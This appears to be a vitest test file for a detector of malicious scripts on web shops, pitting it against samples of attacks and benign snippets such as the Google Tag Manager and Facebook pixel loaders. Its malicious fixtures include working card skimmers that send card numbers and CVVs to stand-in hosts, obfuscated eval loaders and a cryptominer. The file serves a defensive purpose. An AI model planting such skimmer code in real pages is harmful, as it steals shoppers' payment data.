import { describe, expect, test } from 'vitest';
import { EVIDENT, judgeScript, ODD } from './index.ts';

/** Written after what is found on shops that were broken into; addresses and keys are made up. */
const malicious: [string, string][] = [
  ['eval of base64', `eval(atob('dmFyIHggPSAxOw=='));`],
  ['Function of base64', `(new Function(atob("YWxlcnQoMSk=")))();`],
  [
    'eval of character codes',
    `eval(String.fromCharCode(118,97,114,32,115,61,100,111,99,117,109,101,110,116,46,99,114,101));`,
  ],
  [
    'a skimmer in plain words',
    `document.querySelector('#place-order').addEventListener('click', function () {
    var d = { n: document.querySelector('[name="cc_number"]').value, c: document.querySelector('[name="cc_cvv"]').value };
    fetch('https://stat-collect.example/g', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify(d)) });
  });`,
  ],
  [
    'a skimmer with jQuery',
    `jQuery(document).on('change', 'input[autocomplete=cc-number]', function(){ (new Image()).src = '//cdn-stat.example/p.gif?d=' + encodeURIComponent(jQuery(this).val()); });`,
  ],
  [
    'a skimmer behind obfuscated names',
    `var _0x1a2b=['Y2NfbnVtYmVy','aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw=='];(function(_0x3c4d){document.addEventListener('submit',function(){var v=document.getElementById(atob(_0x1a2b[0])).value;new Image().src=atob(_0x1a2b[1])+'?'+v})})(_0x1a2b);`,
  ],
  [
    'a skimmer dressed as a tag manager',
    `(function(w,d,s,l,i){w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=atob('aHR0cHM6Ly9nb29nbGUtdGFnbS5leGFtcGxlL2d0bS5qcw==')+'?id='+i;f.parentNode.insertBefore(j,f);eval(unescape(l))})(window,document,'script','dataLayer','GTM-1');`,
  ],
  ['text in escapes, run', `eval("${'\\x61\\x62'.repeat(40)}");`],
  ['packed and obfuscated', `eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'_0xabc|_0xabd|_0xabe'.split('|'),0,{}));`],
  ['a miner', `var miner = new CoinHive.Anonymous('key'); miner.start();`],
  [
    'searchers led away',
    `if(/google|bing|yandex/i.test(document.referrer)){eval(unescape('%77%69%6e%64%6f%77'));window.location=atob('aHR0cHM6Ly9waWxscy5leGFtcGxlLw==')}`,
  ],
];

/** What honest shops have in their pages. */
const honest: [string, string][] = [
  [
    'Google Tag Manager',
    `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-ABC123');`,
  ],
  [
    'old Google Analytics',
    `var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`,
  ],
  [
    'Facebook pixel',
    `!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';n.queue=[];t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','123456789012345');fbq('track','PageView');`,
  ],
  [
    'Yandex Metrika',
    `(function(m,e,t,r,i,k,a){m[i]=m[i]||function(){(m[i].a=m[i].a||[]).push(arguments)};m[i].l=1*new Date();k=e.createElement(t),a=e.getElementsByTagName(t)[0],k.async=1,k.src=r,a.parentNode.insertBefore(k,a)})(window,document,"script","https://mc.yandex.ru/metrika/tag.js","ym");ym(12345678,"init",{clickmap:true,webvisor:true});`,
  ],
  [
    'Hotjar',
    `(function(h,o,t,j,a,r){h.hj=h.hj||function(){(h.hj.q=h.hj.q||[]).push(arguments)};h._hjSettings={hjid:1,hjsv:6};a=o.getElementsByTagName('head')[0];r=o.createElement('script');r.async=1;r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;a.appendChild(r);})(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');`,
  ],
  [
    'WordPress emoji',
    `window._wpemojiSettings = {"baseUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/15.0.3\\/72x72\\/","source":{"concatemoji":"\\/wp-includes\\/js\\/wp-emoji-release.min.js"}};!function(i,n){var o,s,e;function u(e,t,n){e.clearRect(0,0,e.canvas.width,e.canvas.height),e.fillText(t,0,0);var a=String.fromCharCode;return n(e,"\\ud83c\\udff3\\ufe0f\\u200d\\u26a7\\ufe0f")}var t=i.createElement("script");t.src=n.concatemoji,t.defer=!0,i.getElementsByTagName("head")[0].appendChild(t)}(document,window._wpemojiSettings.source);`,
  ],
  [
    'Cloudflare mail decoder',
    `!function(){"use strict";function e(e){return e.replace(/x/g,"")}function r(e,r){var n=e.substr(r,2);return parseInt(n,16)}function n(n,c){for(var o="",a=r(n,c),i=c+2;i<n.length;i+=2){var l=r(n,i)^a;o+=String.fromCharCode(l)}try{o=decodeURIComponent(escape(o))}catch(u){}return o}}();`,
  ],
  [
    'Cloudflare challenge beacon',
    `(function(){function c(){var b=a.contentDocument||a.contentWindow.document;if(b){var d=b.createElement('script');d.innerHTML="window.__CF$cv$params={r:'8f00',t:'MTczMDAwMDAwMC4wMDAwMDA='};var a=document.createElement('script');a.nonce='';a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';document.getElementsByTagName('head')[0].appendChild(a);";b.getElementsByTagName('head')[0].appendChild(d)}}var a=document.createElement('iframe');a.height=1;a.width=1;a.style.visibility='hidden';document.body.appendChild(a);})();`,
  ],
  [
    'jQuery from home when the CDN fails',
    `window.jQuery || document.write('<script src="/js/vendor/jquery-3.7.1.min.js"><\\/script>');`,
  ],
  ['the year in the footer', `document.write(new Date().getFullYear());`],
  [
    'settings of WooCommerce',
    `var wc_stripe_params = {"key":"pk_live_51ABCdefGHIjklMNOpqrSTUvwxYZ0123456789abcdefghijklmnop","card_number":"Card number","cvc":"CVC","ajaxurl":"/?wc-ajax=%%endpoint%%","nonce":"a1b2c3d4e5"};`,
  ],
  [
    'settings of Magento',
    `require.config({"baseUrl":"https://shop.example/static/version1/frontend/"});require(['jquery','Magento_Payment/js/cc-type'],function($){$('#cc_number').on('change',function(){$('#cc_type').val('VI')})});`,
  ],
  [
    'a check of the card number that stays at home',
    `document.getElementById('card_number').addEventListener('input', function(e){ e.target.value = e.target.value.replace(/\\D/g,''); fetch('/api/card-brand', {method:'POST', body: e.target.value.slice(0,6)}); });`,
  ],
  [
    'a cookie that is decoded',
    `var cart = JSON.parse(atob(document.cookie.split('cart=')[1] || 'e30='));document.querySelector('.count').textContent = cart.n || 0;`,
  ],
  [
    'a picture in the code',
    `var spinner = 'data:image/png;base64,${'iVBORw0KGgoAAAANSUhEUgAA'.repeat(40)}';document.querySelector('img').src = spinner;`,
  ],
  [
    'a chat',
    `window.jivo_init=function(){};(function(){var s=document.createElement('script');s.async=true;s.src='//code.jivosite.com/widget/abc';document.head.appendChild(s)})();`,
  ],
  [
    'Kyrillic in escapes',
    `var messages = {"add":"\\u0414\\u043e\\u0434\\u0430\\u0442\\u0438 \\u0434\\u043e \\u043a\\u043e\\u0448\\u0438\\u043a\\u0430","sold":"\\u041f\\u0440\\u043e\\u0434\\u0430\\u043d\\u043e"};`,
  ],
  [
    'lazy loading',
    `document.addEventListener('DOMContentLoaded',function(){document.querySelectorAll('img[data-src]').forEach(function(i){i.src=i.dataset.src})});`,
  ],
  [
    'a currency switch',
    `function setCurrency(c){document.cookie='currency='+c;location.href=location.pathname+'?currency='+c;}`,
  ],
];

describe('malicious', () => {
  test.each(malicious)('%s', (_, code) =>
    expect(judgeScript(code).weight, judgeScript(code).signs.join()).toBeGreaterThanOrEqual(EVIDENT),
  );
});

describe('honest', () => {
  test.each(honest)('%s', (_, code) =>
    expect(judgeScript(code).weight, judgeScript(code).signs.join()).toBeLessThan(ODD),
  );
});

test('long code ends in good time', () => {
  const begun = performance.now();
  judgeScript(
    'var a = "'.concat('A'.repeat(200_000), '"; ', '%41'.repeat(30_000), "'\\x41".repeat(20_000), '1,'.repeat(50_000)),
  );
  judgeScript('document.write('.repeat(20_000));
  judgeScript("'\\x".repeat(60_000));
  expect(performance.now() - begun).toBeLessThan(10_000);
});
